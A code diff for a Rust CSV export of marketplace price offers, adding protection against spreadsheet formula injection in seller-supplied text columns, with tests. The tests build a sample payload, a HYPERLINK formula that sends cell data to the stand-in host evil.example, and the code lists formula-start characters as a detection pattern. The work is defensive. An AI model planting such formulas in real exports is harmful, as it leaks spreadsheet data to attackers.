@@ -2,6 +2,12 @@
 //! encoding), `;`-separated, one row per offer, amounts exact (no rounding, no thousands
 //! separators). In Indonesian the decimal mark is `,`, as the spreadsheets that expect `;` read
 //! it; in English it is `.`.
+//!
+//! Titles, vendor names and links come from sellers. A cell that starts with `=`, `+`, `-`, `@`,
+//! tab or carriage return is a formula to a spreadsheet (`=HYPERLINK(…)` sends the sheet's data
+//! away when clicked), so every text column is neutralised by OWASP's rule: such a cell gets a
+//! leading `'`, which spreadsheets show as text. The choice is made per column, not per value:
+//! amount columns are written by [`number`] from exact decimals and stay numbers.
 
 use super::lang::Lang;
 use super::survey::{Survey, unit_price};
@@ -19,23 +25,23 @@ pub fn render(survey: &Survey<'_>, lang: Lang) -> Result<String, csv::Error> {
         for row in &product.rows {
             let (offer, price) = (row.offer, row.offer.price.as_ref());
             out.write_record([
-                product.title.clone(),
-                row.marketplace.to_string(),
-                offer.title.clone(),
-                offer.url.clone().unwrap_or_default(),
-                offer.vendor.name.clone(),
-                offer.vendor.npwp.clone().unwrap_or_default(),
-                words::vendor_place(offer, lang),
+                text(&product.title),
+                text(row.marketplace),
+                text(&offer.title),
+                text(offer.url.as_deref().unwrap_or_default()),
+                text(&offer.vendor.name),
+                text(offer.vendor.npwp.as_deref().unwrap_or_default()),
+                text(&words::vendor_place(offer, lang)),
                 amount(price.map(|p| p.amount_including_vat)),
                 amount(price.map(|p| p.amount_excluding_vat)),
-                offer.unit.name.clone(),
+                text(&offer.unit.name),
                 offer.unit.quantity.map(|q| number(q, lang)).unwrap_or_default(),
-                offer.unit.base_unit.clone().unwrap_or_default(),
+                text(offer.unit.base_unit.as_deref().unwrap_or_default()),
                 amount(unit_price(offer)),
                 amount(offer.tkdn),
                 amount(offer.bmp),
-                row.read_at.clone(),
-                offer.gateway_id(),
+                text(&row.read_at),
+                text(&offer.gateway_id()),
             ])?;
         }
     }
@@ -86,6 +92,14 @@ fn header(lang: Lang) -> [&'static str; 17] {
     }
 }
 
+/// Characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell a spreadsheet shows as text: a formula start gets a leading `'`.
+fn text(value: &str) -> String {
+    if value.starts_with(FORMULA_START) { format!("'{value}") } else { value.to_string() }
+}
+
 /// The exact amount, trailing zeros dropped, in the language's decimal mark.
 fn number(value: Decimal, lang: Lang) -> String {
     let text = value.normalize().to_string();
@@ -98,6 +112,75 @@ fn number(value: Decimal, lang: Lang) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::model::Offer;
+    use crate::web::survey::{Product, Row};
+
+    /// Seller-controlled text that a spreadsheet would run, for one formula start.
+    fn hostile(start: char, what: &str) -> String {
+        format!("{start}HYPERLINK(\"https://evil.example/?d=\"&A2;\"{what}\")")
+    }
+
+    /// Every text column a seller fills, starting with every formula character.
+    fn hostile_offers() -> Vec<Offer> {
+        FORMULA_START
+            .iter()
+            .map(|&start| {
+                let mut offer = Offer::sample("x");
+                offer.title = hostile(start, "title");
+                offer.url = Some(hostile(start, "url"));
+                offer.vendor.name = hostile(start, "vendor");
+                offer.vendor.npwp = Some(hostile(start, "npwp"));
+                offer.unit.name = hostile(start, "pack");
+                offer.unit.base_unit = Some(hostile(start, "unit"));
+                offer.tkdn = Some(Decimal::new(4_512, 2));
+                offer
+            })
+            .collect()
+    }
+
+    fn records(csv_text: &str) -> Vec<csv::StringRecord> {
+        let body = csv_text.strip_prefix(BOM).expect("byte-order mark");
+        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(body.as_bytes());
+        reader.records().map(|r| r.expect("a well-formed row")).collect()
+    }
+
+    #[test]
+    fn no_text_cell_starts_a_formula_whatever_the_seller_wrote() {
+        let offers = hostile_offers();
+        let products = FORMULA_START
+            .iter()
+            .zip(&offers)
+            .map(|(&start, offer)| Product {
+                title: hostile(start, "product"),
+                rows: vec![Row { offer, marketplace: "Mbizmarket", read_at: "2026-12-01 11:32:00 WIB".into() }],
+                min: None,
+                median: None,
+                max: None,
+            })
+            .collect();
+        let survey = Survey { products, searched: Vec::new(), missing: Vec::new(), made_at: String::new() };
+        let rows = records(&render(&survey, Lang::Id).expect("renders"));
+        assert_eq!(rows.len(), FORMULA_START.len());
+        let seller_columns = [0, 2, 3, 4, 5, 9, 11];
+        for (row, &start) in rows.iter().zip(&FORMULA_START) {
+            for column in seller_columns {
+                let cell = &row[column];
+                assert!(cell.starts_with('\'') && cell[1..].starts_with(start), "column {column}: {cell:?}");
+            }
+            assert!(row.iter().all(|cell| !cell.starts_with(FORMULA_START)), "{row:?}");
+            assert_eq!(&row[7], "100000", "amounts stay numbers: {row:?}");
+            assert_eq!(&row[13], "45,12", "{row:?}");
+        }
+    }
+
+    #[test]
+    fn only_a_formula_start_is_neutralised() {
+        assert_eq!(text("Kertas HVS A4 =80gsm"), "Kertas HVS A4 =80gsm");
+        assert_eq!(text("-5% diskon"), "'-5% diskon");
+        assert_eq!(text("\r=1+1"), "'\r=1+1");
+        assert_eq!(text("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(text(""), "");
+    }
 
     #[test]
     fn amounts_keep_every_digit_and_use_the_languages_decimal_mark() {
